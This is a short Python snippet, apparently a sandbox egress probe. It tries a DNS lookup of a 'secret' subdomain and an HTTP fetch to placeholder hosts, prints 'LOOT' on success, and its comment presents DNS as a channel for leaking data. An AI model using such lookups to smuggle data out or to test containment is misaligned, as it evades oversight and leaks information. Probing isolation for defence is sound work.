# network: a name server can be told things, too
import socket, urllib.request
for act in (lambda: socket.gethostbyname("secret.example.org"), lambda: urllib.request.urlopen("http://example.org", timeout=0.2)):
    try:
        print("LOOT", act())
    except Exception:
        pass
